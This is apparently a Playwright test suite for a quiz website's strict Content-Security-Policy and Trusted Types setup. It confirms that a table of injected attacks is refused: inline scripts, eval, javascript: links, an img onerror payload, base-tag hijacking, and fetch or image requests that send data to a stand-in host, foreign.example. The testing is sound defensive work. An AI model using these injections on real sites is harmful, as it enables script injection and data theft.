// Promise 12: a policy without `unsafe-inline` and `unsafe-eval`, with Trusted Types, refuses whatever is not of the
// site. Every test of the suite runs under it (watch.ts); here are the journey that sees it all, and what it refuses.

import { expect, test, type Page } from "@playwright/test";
import { Carrying } from "../carrying";
import { withoutHeaders } from "../hosting";
import { OCTOBER, Quiz } from "../quiz";

const PAGES = ["", "guide.html", "paper.html"];

// The address of another site. Nothing answers there, and nothing must be asked.
const FOREIGN = "https://foreign.example/";

test("each page comes with the strict policy, in its header and in itself", async ({ page }) => {
  for (const address of PAGES) {
    const response = await page.goto(`./${address}`);
    const sent = response?.headers()["content-security-policy"] ?? "";
    const own = (await page.locator("meta[http-equiv='Content-Security-Policy']").getAttribute("content")) ?? "";
    for (const policy of [sent, own]) {
      expect.soft(policy, address).toMatch(/^default-src 'none';/);
      expect.soft(policy, address).not.toContain("unsafe-inline");
      expect.soft(policy, address).not.toContain("'unsafe-eval'");
      expect.soft(policy, address).not.toMatch(/[*]|https?:|data:|blob:/);
      expect.soft(policy, address).toContain("require-trusted-types-for 'script'");
    }
    expect.soft(sent, address).toContain("frame-ancestors 'none'");
    // It is the first thing after the line that says how to read the letters.
    const second = page.locator("head > :nth-child(2)");
    await expect.soft(second, address).toHaveAttribute("http-equiv", "Content-Security-Policy");
  }
});

test("a whole journey is refused nothing", async ({ page, noticed }) => {
  await page.clock.setFixedTime(OCTOBER);
  const quiz = new Quiz(page);
  await quiz.open();
  await quiz.begin("unsure", "device");
  for (const words of ["Never", "Often"]) await quiz.choose(words);
  await quiz.go("#/question/29");
  await quiz.passOptional();
  await quiz.seeResult();
  for (const hash of ["#/guide", "#/guide/selftrust", "#/plan", "#/history", "#/method", "#/privacy", "#/support", "#/settings", "#/accessibility", "#/"]) {
    await quiz.go(hash);
    await expect(quiz.heading).toBeVisible();
  }
  const carrying = new Carrying(page);
  await carrying.open();
  await carrying.save();
  for (const address of PAGES) await page.goto(`./${address}`);
  expect(noticed).toEqual([]);
});

// Each tries to do what an attacker would have the page do. What ran leaves its mark.
const ATTACKS: Record<string, (page: Page) => Promise<unknown>> = {
  "a script in the page": (page) =>
    page.evaluate(() => {
      const script = document.createElement("script");
      script.append("window.__ran = true");
      document.body.append(script);
    }),
  "a handler in the page": (page) =>
    page.evaluate(() => {
      setTimeout(() => document.body.setAttribute("onclick", "window.__ran = true"));
      setTimeout(() => document.body.click());
    }),
  "a text that is run": (page) => page.evaluate(() => void setTimeout(() => (0, eval)("window.__ran = true"))),
  "a text that becomes a function": (page) =>
    page.evaluate(() => void setTimeout(() => new Function("window.__ran = true")())),
  "an address that is a script": (page) =>
    page.evaluate(() => {
      const link = document.createElement("a");
      link.href = "javascript:void (window.__ran = true)";
      document.body.append(link);
      link.click();
    }),
  "a script of another site": (page) =>
    page.evaluate((address) => {
      void import(address).catch(() => {});
    }, `${FOREIGN}script.js`),
  "a text that becomes HTML": (page) =>
    page.evaluate(() => void setTimeout(() => (document.body.innerHTML = "<img src=x onerror='window.__ran = true'>"))),
  "a maker of trusted texts that is none of ours": (page) =>
    page.evaluate(() => {
      const makers = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes;
      setTimeout(() => makers.createPolicy("default", { createHTML: (text: string) => text }));
    }),
  "a style in the page": (page) =>
    page.evaluate(() => {
      const style = document.createElement("style");
      style.append(":root { --ran: 1 }");
      document.head.append(style);
    }),
  "a style on an element": (page) =>
    page.evaluate(() => document.documentElement.setAttribute("style", "--ran: 1")),
  "a picture of another site": (page) =>
    page.evaluate((address) => {
      new Image().src = address;
    }, `${FOREIGN}picture.png`),
  "a question to another site": (page) =>
    page.evaluate((address) => void fetch(address).catch(() => {}), `${FOREIGN}?what=answers`),
  "a form that is sent": (page) =>
    page.evaluate(() => {
      const form = document.createElement("form");
      form.method = "post";
      document.body.append(form);
      form.submit();
    }),
  "another base of all addresses": (page) =>
    page.evaluate((address) => {
      const base = document.createElement("base");
      base.href = address;
      document.head.append(base);
    }, FOREIGN),
  "a page within the page": (page) =>
    page.evaluate((address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
    }, `${FOREIGN}frame.html`),
};

const HOSTS = { "a good host": async () => {}, "a host that sends no headers": withoutHeaders };

for (const [host, arrange] of Object.entries(HOSTS)) {
  test(`each attack is refused on ${host}, and that is noticed`, async ({ context, noticed }) => {
    for (const [attack, attempt] of Object.entries(ATTACKS)) {
      await test.step(attack, async () => {
        // A page of its own: what an attack leaves behind must not help the next.
        const page = await context.newPage();
        await arrange(page);
        await new Quiz(page).open();
        const base = await page.evaluate(() => document.baseURI);
        await attempt(page);
        // By the policy, and not only by the one who counts what would leave.
        await expect.poll(() => noticed.join("\n"), attack).toContain("Content-Security-Policy event: ");
        const after = await page.evaluate(() => ({
          hasRun: "__ran" in window,
          style: getComputedStyle(document.documentElement).getPropertyValue("--ran"),
          base: document.baseURI,
        }));
        expect.soft(after, attack).toEqual({ hasRun: false, style: "", base });
        await page.close();
        noticed.length = 0;
      });
    }
  });
}

test.describe("where no policy holds it back", () => {
  test.use({ bypassCSP: true });

  test("a script, a text that becomes HTML, and a style run", async ({ page }) => {
    for (const attack of ["a script in the page", "a text that becomes HTML", "a style in the page"]) {
      await page.goto("about:blank");
      await new Quiz(page).open();
      await ATTACKS[attack]?.(page);
      const ran = () =>
        page.evaluate(() => "__ran" in window || getComputedStyle(document.documentElement).getPropertyValue("--ran") === "1");
      await expect.poll(ran, attack).toBe(true);
    }
  });

  test("what leaves for another site is noticed", async ({ page, noticed }) => {
    await page.route(`${FOREIGN}**`, (route) => route.fulfill({ body: "" }));
    await new Quiz(page).open();
    await ATTACKS["a picture of another site"]?.(page);
    await expect.poll(() => noticed).toEqual([`GET ${FOREIGN}picture.png`]);
    noticed.length = 0;
    await page.evaluate(() => void fetch("site.json", { method: "POST", body: "answers" }));
    await expect.poll(() => noticed.join()).toContain("with a body: answers");
    noticed.length = 0;
  });
});

test("no page can show the site within itself", async ({ page, noticed }) => {
  await page.route("**/frame.html", (route) =>
    route.fulfill({ contentType: "text/html", body: "<!doctype html><iframe src='./'></iframe>" }),
  );
  await page.goto("./frame.html");
  await expect.poll(() => noticed.join()).toContain("frame-ancestors 'none'");
  noticed.length = 0;
  await expect(page.frameLocator("iframe").getByRole("heading")).toHaveCount(0);
});
